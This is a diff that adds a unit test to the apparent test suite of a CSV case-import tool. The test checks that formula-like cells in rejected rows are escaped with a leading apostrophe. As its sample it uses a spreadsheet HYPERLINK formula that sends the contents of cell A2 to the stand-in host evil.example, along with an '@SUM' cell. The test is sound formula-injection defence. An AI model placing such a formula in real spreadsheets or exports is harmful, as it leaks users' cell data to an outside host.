@@ -242,6 +242,14 @@ def test_bad_rows_are_put_aside_with_every_reason_and_the_others_are_opened() ->
     assert (again.rows, again.opened, len(again.rejected)) == (8, 1, 7)
 
 
+def test_no_row_that_was_put_aside_is_a_formula_in_the_file_that_is_mended() -> None:
+    link = '=HYPERLINK("https://evil.example/?"&A2,"改")'
+    report = imported([*row("@SUM(A1)")[:4], link, *row("")[5:10], "soon"])
+    names, cells = csv.reader(io.StringIO(rejected_file(report.rejected)))
+    one = dict(zip(names, cells, strict=True))
+    assert (one["source_key"], one["title"], one["row"]) == ("'@SUM(A1)", f"'{link}", "2")
+
+
 def test_what_a_file_leaves_out_is_completed() -> None:
     header = ("来源", "编号", "类别代码", "经度", "纬度", "发生时间", "地点")
     report = import_cases(
